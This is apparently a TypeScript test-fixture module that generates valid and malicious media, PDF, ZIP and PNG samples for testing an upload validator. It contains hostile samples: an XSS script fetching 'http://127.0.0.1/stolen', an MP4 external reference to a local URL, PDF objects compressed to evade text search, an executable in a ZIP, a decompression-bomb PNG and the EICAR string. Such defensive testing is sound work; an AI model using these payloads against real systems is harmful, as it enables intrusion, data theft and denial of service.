import { deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** Valid and malicious sample files, generated from their format specifications instead of kept as files. */

export const u32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
export const box = (type: string, ...content: (Buffer | string)[]) => {
  const body = Buffer.concat(
    content.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  )
  return Buffer.concat([u32(body.length + 8), Buffer.from(type, 'latin1'), body])
}

type Mp4 = {
  brand?: string
  codec?: string
  handler?: string
  free?: string
  external?: boolean
  tracks?: number
}

export function mp4({
  brand = 'isom',
  codec = 'avc1',
  handler = 'vide',
  free,
  external,
  tracks = 1,
}: Mp4 = {}): Buffer {
  const hdlr = box('hdlr', u32(0), u32(0), handler, Buffer.alloc(12), 'touchline\0')
  const url = external ? box('url ', u32(0), 'http://127.0.0.1/secret\0') : box('url ', u32(1))
  const dinf = box('dinf', box('dref', u32(0), u32(1), url))
  const stsd = box('stsd', u32(0), u32(1), box(codec, Buffer.alloc(78)))
  const trak = box(
    'trak',
    box('tkhd', Buffer.alloc(84)),
    box('mdia', hdlr, box('minf', dinf, box('stbl', stsd))),
  )
  return Buffer.concat([
    box('ftyp', brand, u32(512), `${brand}iso2mp41`),
    box('moov', box('mvhd', Buffer.alloc(100)), ...Array.from({ length: tracks }, () => trak)),
    ...(free === undefined ? [] : [box('free', free)]),
    box('mdat', Buffer.alloc(2000, 7)),
  ])
}

const element = (id: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content)
  const size = Buffer.alloc(8)
  size.writeBigUInt64BE(BigInt(body.length) | (1n << 56n))
  return Buffer.concat([Buffer.from(id, 'hex'), size, body])
}

export function webm({ docType = 'webm', codec = 'V_VP9', tracks = true } = {}): Buffer {
  const track = element('ae', element('d7', Buffer.from([1])), element('86', Buffer.from(codec)))
  return Buffer.concat([
    element('1a45dfa3', element('4282', Buffer.from(docType))),
    element(
      '18538067',
      ...(tracks ? [element('1654ae6b', track)] : []),
      element('1f43b675', Buffer.alloc(500)),
    ),
  ])
}

export function pdf(catalog = '', more: (string | Buffer)[] = [], tail = ''): Buffer {
  return Buffer.concat(
    [
      '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n',
      `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`,
      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n',
      ...more,
      `trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n${tail}`,
    ].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  )
}

/** A PDF whose objects are compressed, so that a plain text search does not find them. */
export function packed(objects: string, dictionary = '/Type /ObjStm /N 1 /First 4'): Buffer {
  const data = deflateSync(Buffer.from(objects, 'latin1'))
  return Buffer.concat([
    Buffer.from(
      `9 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream\nendobj\n'),
  ])
}

export function zip(name = 'run.exe', content = 'MZ'): Buffer {
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt16LE(name.length, 26)
  local.writeUInt32LE(content.length, 18)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  return Buffer.concat([local, Buffer.from(name + content), end])
}

export function picture(
  format: 'jpeg' | 'png' | 'webp' | 'gif' | 'avif',
  width = 40,
  height = 30,
): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#357' } })
    .toFormat(format)
    .toBuffer()
}

/** A PNG header that declares 50,000 by 50,000 pixels in under 100 bytes. */
export function hugePng(): Buffer {
  const header = Buffer.concat([u32(50_000), u32(50_000), Buffer.from([8, 6, 0, 0, 0])])
  const piece = (type: string, body: Buffer) =>
    Buffer.concat([
      u32(body.length),
      Buffer.from(type),
      body,
      u32(crc32(Buffer.concat([Buffer.from(type), body]))),
    ])
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    piece('IHDR', header),
    piece('IDAT', deflateSync(Buffer.alloc(1000))),
    piece('IEND', Buffer.alloc(0)),
  ])
}

function crc32(bytes: Buffer): number {
  let crc = ~0
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return ~crc >>> 0
}

export const SCRIPT = '<script>fetch("http://127.0.0.1/stolen")</script>'
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
